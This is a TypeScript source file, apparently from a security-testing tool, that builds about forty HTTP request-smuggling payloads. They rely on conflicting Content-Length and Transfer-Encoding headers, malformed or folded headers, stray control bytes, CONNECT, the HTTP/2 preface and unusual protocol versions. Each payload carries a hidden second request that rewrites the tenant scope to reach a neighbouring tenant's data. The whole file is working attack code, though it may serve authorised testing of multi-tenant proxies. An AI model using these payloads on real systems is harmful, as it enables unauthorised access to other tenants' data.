import { type Aim, encoded, FORM, withQuery } from './attack.ts';

/** Bytes that proxies and servers may cut into requests in different ways. */
export interface Smuggling {
  readonly name: string;
  readonly bytes: (aim: Aim, token: string) => Buffer;
}

interface Parts {
  /** `POST /scopes/acme/…/query HTTP/1.1`, host and credentials. */
  readonly post: string;
  readonly get: string;
  /** A whole request for the neighbour's data, with the own credentials. */
  readonly hidden: string;
  readonly form: string;
}

function partsOf(aim: Aim, token: string): Parts {
  const head = `Host: x\r\nAuthorization: Bearer ${token}\r\n`;
  const form = encoded(aim.form);
  const theirs = aim.target.replace(`/scopes/${aim.tenant}/`, () => `/scopes/${aim.neighbour}/`);
  return {
    post: `POST ${aim.target} HTTP/1.1\r\n${head}Content-Type: ${FORM}\r\n`,
    get: `GET ${withQuery(aim.target, form)} HTTP/1.1\r\n${head}`,
    hidden: `GET ${withQuery(theirs, form)} HTTP/1.1\r\n${head}X-Scope-OrgID: ${aim.neighbour}\r\nConnection: close\r\n\r\n`,
    form,
  };
}

const smuggling = (name: string, text: (parts: Parts) => string): Smuggling => ({
  name,
  bytes: (aim, token) => Buffer.from(text(partsOf(aim, token)), 'latin1'),
});

const headed = (name: string, header: string): Smuggling =>
  smuggling(name, ({ post, form, hidden }) => {
    const chunked = `${form.length.toString(16)}\r\n${form}\r\n0\r\n\r\n`;
    return `${post}${header}\r\n\r\n${chunked}${hidden}`;
  });

/** Rows 11 and 20 of the list, and what is known of their kind. */
export const SMUGGLING: readonly Smuggling[] = [
  headed('length and chunks', 'Content-Length: 4\r\nTransfer-Encoding: chunked'),
  headed('chunks and length', 'Transfer-Encoding: chunked\r\nContent-Length: 4'),
  headed('two lengths', 'Content-Length: 5\r\nContent-Length: 6'),
  headed('equal lengths', 'Content-Length: 0\r\nContent-Length: 0'),
  headed('a list of lengths', 'Content-Length: 5, 5'),
  headed('a signed length', 'Content-Length: +5'),
  headed('a negative length', 'Content-Length: -1'),
  headed('a length in hexadecimal', 'Content-Length: 0x5'),
  headed('a length beyond numbers', 'Content-Length: 18446744073709551616'),
  headed('a blank before the colon', 'Transfer-Encoding : chunked'),
  headed('a tab before the value', 'Transfer-Encoding:\tchunked\r\nContent-Length: 4'),
  headed('chunks in disguise', 'Transfer-Encoding: xchunked'),
  headed('chunks twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  headed('chunks, then gzip', 'Transfer-Encoding: chunked, gzip'),
  headed('gzip, then chunks', 'Transfer-Encoding: gzip, chunked'),
  headed('chunks in capitals', 'TRANSFER-ENCODING: CHUNKED\r\nContent-Length: 4'),
  headed('a vertical tab', 'Transfer-Encoding:\u000bchunked\r\nContent-Length: 4'),
  headed('a folded header', 'X-A: b\r\n Transfer-Encoding: chunked'),
  headed('a folded value', 'Transfer-Encoding:\r\n chunked'),
  headed('a bare line feed', 'X-A: b\nTransfer-Encoding: chunked\nContent-Length: 4'),
  headed('a bare carriage return', 'X-A: b\rTransfer-Encoding: chunked'),
  headed('NUL in a header', 'X-A: b\u0000\r\nContent-Length: 0'),
  headed('a header without a colon', 'X-A\r\nContent-Length: 0'),
  headed('a header without a name', ': b\r\nContent-Length: 0'),
  headed('trailers that authorize', 'Trailer: Authorization\r\nTransfer-Encoding: chunked'),
  smuggling(
    'a request in a body',
    ({ post, hidden }) => `${post}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  ),
  smuggling('a request behind', ({ get, hidden }) => `${get}\r\n${hidden}`),
  smuggling(
    'a request behind the body of a GET',
    ({ get, hidden }) => `${get}Content-Length: 3\r\n\r\na=b${hidden}`,
  ),
  smuggling(
    'a request behind a short body',
    ({ post, form, hidden }) => `${post}Content-Length: ${form.length}\r\n\r\n${form}\r\n${hidden}`,
  ),
  smuggling(
    'a broken chunk',
    ({ post, hidden }) => `${post}Transfer-Encoding: chunked\r\n\r\nzz\r\n${hidden}`,
  ),
  smuggling(
    'a chunk with extensions',
    ({ post, form, hidden }) =>
      `${post}Transfer-Encoding: chunked\r\n\r\n${form.length.toString(16)};a="\r\n"\r\n${form}\r\n0\r\n\r\n${hidden}`,
  ),
  smuggling(
    'a huge chunk',
    ({ post, hidden }) => `${post}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n${hidden}`,
  ),
  smuggling(
    'CONNECT',
    ({ hidden }) => `CONNECT 127.0.0.1:9090 HTTP/1.1\r\nHost: 127.0.0.1:9090\r\n\r\n${hidden}`,
  ),
  smuggling('the preface of HTTP/2', ({ hidden }) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`),
  smuggling('HTTP/0.9', ({ hidden }) => `GET /\r\n${hidden}`),
  smuggling('HTTP/1.0', ({ get }) => `${get.replace('HTTP/1.1', 'HTTP/1.0')}\r\n`),
  smuggling(
    'an unknown version',
    ({ get, hidden }) => `${get.replace('HTTP/1.1', 'HTTP/1.2')}\r\n${hidden}`,
  ),
  smuggling('blank lines before', ({ hidden }) => `\r\n\r\n${hidden}`),
  smuggling('a blank in the target', ({ get, hidden }) => `${get.replace('?', ' ?')}\r\n${hidden}`),
  smuggling(
    'a line feed in the target',
    ({ get, hidden }) => `${get.replace('?', '\n?')}\r\n${hidden}`,
  ),
  smuggling(
    'NUL in the target',
    ({ get, hidden }) => `${get.replace('?', '\u0000?')}\r\n${hidden}`,
  ),
  smuggling(
    'bytes beyond ASCII in the target',
    ({ get, hidden }) => `${get.replace('?', '\u00ff?')}\r\n${hidden}`,
  ),
];
